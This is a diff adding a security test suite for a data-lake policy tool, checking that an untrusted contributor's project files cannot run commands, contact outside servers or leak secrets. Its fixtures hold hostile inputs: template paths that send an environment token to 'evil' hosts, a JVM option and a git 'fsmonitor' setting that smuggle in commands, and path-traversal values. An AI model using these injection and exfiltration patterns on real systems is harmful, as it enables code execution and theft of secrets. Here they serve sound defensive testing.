@@ -1,0 +1,252 @@
+"""A stranger's pull request: whatever its files say, nothing runs, nothing is sent and no variable is shown."""
+
+import inspect
+import json
+import os
+import socket
+import subprocess
+import sys
+import threading
+from contextlib import contextmanager
+
+import pytest
+
+from etc_policy.api.arguments import SAFE_VERBS
+from etc_policy.api.project import Project
+from etc_policy.errors import UsageError
+from tests.unit.cli.conftest import POLICY
+from tests.unit.hudi.table_folder import TableFolder, at, base, log
+from tests.unit.plan.plan_cases import epoch_ms
+
+SECRET = "hunter2-of-the-runner"
+COMMANDS = (
+    "parse", "compile", "compile --explain", "ls", "plan --metadata-only", "plan", "plan --read-stats --explain", "freshness",
+    "freshness --by partition --archived", "simulate", "docs generate",
+)  # fmt: skip
+#: Where a stranger would have etc look; SERVER is one of theirs, and each would show them the variable.
+PLACES = (
+    "s3://evil/{{ env_var('ETC_TEST_TOKEN') }}", "s3://evil/x", "s3a://evil/y", "gs://evil/x", "hdfs://SERVER/x",
+    "hdfs://SERVER/{{ env_var('ETC_TEST_TOKEN', 'none') }}", "abfs://c@SERVER/x", "abfss://c@evil.dfs.core.windows.net/x",
+    "lake.orders", "`lake`.`other`", "/etc", "file:///usr", "file://localhost/var", "out", "out/of/here", "../../..", ".//../x",
+    "{{ env_var('HOME') }}/x", "s3://allowed-not/x", "s3://allowed/x", "s3://allowed/../{{ env_var('HOME') }}",
+)  # fmt: skip
+TARGET = """profiles:
+  p:
+    target: t
+    targets:
+      t:
+        spark:
+          master: local[1]
+          confs: {{spark.driver.extraJavaOptions: "-XX:OnOutOfMemoryError='touch {ran}'"}}
+          packages: ["evil:evil:1"]
+        bundle: ./evil.jar
+        catalog: {catalog}
+        storage: {{endpoint: "http://{server}", region: us-east-1, instance_role: true}}
+notify: {{http: {{url: "http://{server}/notify"}}}}
+"""
+#: How its files name a place: by a policy, one with a template, a variable, `for_each`, a namespace, a root.
+GLUE = ("variable", "namespace")
+FORMS = ("policy", "template", "variable", "for_each", "namespace", "root")
+REST = (
+    "event_time_column: ts, data_latency: 1h, partition_time: {{from: dt=%Y-%m-%d}}, verify: {{suite: mine}}, "
+    "done: {{success_file: _S, command: [touch, '{ran}'], http: {{url: 'http://{server}'}}}}"
+)
+SUITE = "name: mine\nexpectations: [{type: expect_column_values_to_not_be_null, kwargs: {column: id}}]\n"
+
+
+class Events:
+    """What Python was asked to start, and with whom it was asked to speak."""
+
+    def __init__(self):
+        self.are_noted, self.seen = False, []
+
+    def note(self, event, arguments):
+        if self.are_noted and event in ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.system", "socket.connect"):
+            self.seen.append((event, str(arguments[:2])))
+
+    @contextmanager
+    def noted(self):
+        self.seen, self.are_noted = [], True
+        try:
+            yield
+        finally:
+            self.are_noted = False
+
+
+EVENTS = Events()
+sys.addaudithook(EVENTS.note)
+
+
+@pytest.fixture
+def server():
+    """A stranger's server: its address, and how often somebody came."""
+    came = []
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+
+        def accept():
+            while True:
+                try:
+                    connection, _ = listening.accept()
+                except OSError:
+                    return
+                came.append(connection.getpeername())
+                connection.close()
+
+        threading.Thread(target=accept, daemon=True).start()
+        yield f"127.0.0.1:{listening.getsockname()[1]}", came
+        listening.shutdown(socket.SHUT_RDWR)
+
+
+@pytest.fixture
+def stranger(tmp_path, monkeypatch, server):
+    """Writes a stranger's project of some form into a repository, and returns it."""
+    monkeypatch.setenv("ETC_TEST_TOKEN", SECRET)
+    monkeypatch.setenv("ETC_UNTRUSTED", "1")
+    monkeypatch.setenv("ETC_ALLOW", "s3://allowed")
+    monkeypatch.delenv("ETC_HUDI_BUNDLE", raising=False)
+    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
+        monkeypatch.setenv(name, "key")
+
+    def write(form, with_variables):
+        catalog = "{type: glue, uri: 'http://SERVER'}" if form in GLUE else "{type: hive, uri: 'thrift://SERVER'}"
+        project, ran = tmp_path / "warehouse", tmp_path / "ran"
+        given = {"server": server[0], "ran": ran}
+        (project / "policies").mkdir(parents=True)
+        (project / "templates").mkdir()
+        (project / "out").symlink_to(tmp_path.parent)
+        (project / "suites").mkdir()
+        (project / "suites" / "mine.yml").write_text(SUITE)
+        places = [one.replace("SERVER", server[0]) for one in PLACES if with_variables or "env_var" not in one]
+        files = dict(files_of(form, places, REST.format(**given)))
+        settings = files.pop("etc_project.yml", "") + TARGET.format(
+            catalog=catalog.replace("SERVER", server[0]), **given
+        )
+        for name, text in {"etc_project.yml": settings, **files, **bare(ran)}.items():
+            (project / name).parent.mkdir(parents=True, exist_ok=True)
+            (project / name).write_text(text)
+        for command in ("init -q", "add --force .", "-c user.name=n -c user.email=e commit -qm one"):
+            subprocess.run(["git", *command.split()], cwd=tmp_path, check=True, capture_output=True)
+        return project, ran
+
+    return write
+
+
+def bare(ran):
+    """Files that git takes for a repository, and whose configuration names a program."""
+    config = f'[core]\nrepositoryformatversion = 0\nbare = false\nworktree = .\nfsmonitor = "touch {ran}"\n'
+    return {"HEAD": "ref: refs/heads/main\n", "config": config, "objects/.keep": "", "refs/heads/.keep": ""}
+
+
+def files_of(form, places, rest):
+    def policies(*lines):
+        return "version: 1\npolicies:\n" + "".join(f"  - {{{line}}}\n" for line in lines)
+
+    quoted = [json.dumps(place) for place in places]
+    if form == "policy":
+        yield "policies/a.yml", policies(*(f"name: p{n}, table: {one}, {rest}" for n, one in enumerate(quoted)))
+    elif form == "template":
+        yield "templates/t.yml", f"version: 1\ntemplate: {{{rest}}}\n"
+        yield "policies/a.yml", policies(*(f"name: p{n}, extends: t, table: {one}" for n, one in enumerate(quoted)))
+    elif form == "variable":
+        names = "".join(f"  v{n}: {one}\n" for n, one in enumerate(quoted))
+        yield "etc_project.yml", f"vars:\n{names}"
+        yield (
+            "policies/a.yml",
+            policies(*(f"name: p{n}, table: \"{{{{ var('v{n}') }}}}\", {rest}" for n in range(len(quoted)))),
+        )
+    elif form == "for_each":
+        yield (
+            "policies/a.yml",
+            policies(
+                f'name: "p{{{{ each.n }}}}", table: "{{{{ each.t }}}}", {rest}, for_each: ['
+                + ", ".join(f"{{n: {n}, t: {one}}}" for n, one in enumerate(quoted))
+                + "]"
+            ),
+        )
+    elif form == "namespace":
+        globs = [json.dumps(f"{place}/*") for place in places if "." not in place.strip("./")]
+        lines = [f'name: "p{n}_{{table}}", tables: {{path: {one}}}, {rest}' for n, one in enumerate(globs)]
+        yield "policies/a.yml", policies(*lines, f'name: "c_{{table}}", tables: {{catalog: lake}}, {rest}')
+    else:
+        yield "etc_project.yml", f"vars: {{root: {quoted[0]}}}\n"
+        yield "policies/a.yml", policies(f"name: p, table: \"{{{{ var('root') }}}}/x\", {rest}")
+
+
+def shown(folder):
+    return [path for path in folder.rglob("*") if path.is_file() and SECRET.encode() in path.read_bytes()]
+
+
+@pytest.mark.parametrize("with_variables", [True, False])
+@pytest.mark.parametrize("form", FORMS)
+def test_strangers_files_run_nothing_send_nothing_and_show_nothing(
+    stranger, server, etc, monkeypatch, form, with_variables
+):
+    """Those with a variable in them are errors; the others are as right as can be, and are planned but for their places."""
+    project, ran = stranger(form, with_variables)
+    monkeypatch.chdir(project)
+    for command in COMMANDS:
+        with EVENTS.noted():
+            _, out, err = etc(*command.split())
+        assert "not trusted" in err
+        assert "ETC009" not in err, (command, err)
+        assert SECRET not in out + err, command
+        started = [one for one in EVENTS.seen if not (one[0] == "subprocess.Popen" and "git" in one[1])]
+        assert started == [], command
+    assert (server[1], ran.exists(), shown(project)) == ([], False, [])
+    refused = json.loads(etc("plan", "--output", "json")[1] or '{"tables": []}')["tables"]
+    assert {one["action"] for one in refused} <= {"refused"}
+    assert bool(refused) != with_variables, etc("parse")
+
+
+def table_in(folder):
+    table = TableFolder(folder)
+    table.commit(at("10:00:00"), at("10:00:05"), base("f1"))
+    table.commit(at("11:00:00"), at("11:00:05"), log("f1", min_event=epoch_ms("10:30:00")))
+
+
+def test_what_is_allowed_is_planned(tmp_path, monkeypatch, etc):
+    """Its own folder is; another one, and a variable, by their names."""
+    lake, project = tmp_path / "lake", tmp_path / "project"
+    (project / "policies").mkdir(parents=True)
+    table_in(lake / "orders")
+    table_in(project / "lake" / "payments")
+    text = POLICY.replace("lake/orders", "\"{{ env_var('ETC_TEST_LAKE') }}/orders\"")
+    (project / "policies" / "a.yml").write_text(text)
+    monkeypatch.chdir(project)
+    monkeypatch.setenv("ETC_TEST_LAKE", str(lake))
+    at_noon = ("plan", "--at", "2026-01-01T12:00:00Z", "--untrusted", "--output", "json", "--allow", "ETC_TEST_LAKE")
+
+    def actions(*allow):
+        code, out, _ = etc(*at_noon, *allow)
+        return code, {one["policy"]: one["action"] for one in json.loads(out)["tables"]}
+
+    assert actions("--allow", str(lake)) == (0, {"orders_ro": "compact", "payments_ro": "compact"})
+    assert actions("--allow", str(tmp_path / "lak")) == (1, {"orders_ro": "refused", "payments_ro": "compact"})
+    code, _, err = etc(*at_noon[:-2])
+    assert (code, "`ETC_TEST_LAKE` has no value" in err) == (1, True)
+
+
+def test_each_other_verb_refuses(project, monkeypatch):
+    """Those that act, and those that give variables away."""
+    verbs = {name for name, one in inspect.getmembers(Project, inspect.isfunction) if not name.startswith("_")}
+    assert SAFE_VERBS - {"__init__"} <= verbs
+    monkeypatch.setenv("ETC_UNTRUSTED", "1")
+    with Project(project) as opened:
+        for verb in sorted(verbs - SAFE_VERBS):
+            given = ["orders_ro"] * (
+                verb in ("writer_options", "flink_options", "wait", "history", "kept_beside", "forget")
+            )
+            with pytest.raises(UsageError, match="not trusted"):
+                getattr(opened, verb)(*(["options"] if verb == "writer_form" else given))
+        with pytest.raises(UsageError, match="not trusted"):
+            opened.freshness(notify=True)
+    assert Project(project, untrusted=False).apply is not None
+
+
+def test_a_region_is_no_part_of_another_server_s_name(project, etc):
+    (project / "etc_project.yml").write_text(
+        "profiles: {p: {target: t, targets: {t: {storage: {region: 'x.evil.example/'}}}}}\n"
+    )
+    code, _, err = etc("parse")
+    assert (code, "evil.example" in err) == (1, True)
+    assert os.environ.get("ETC_UNTRUSTED") is None
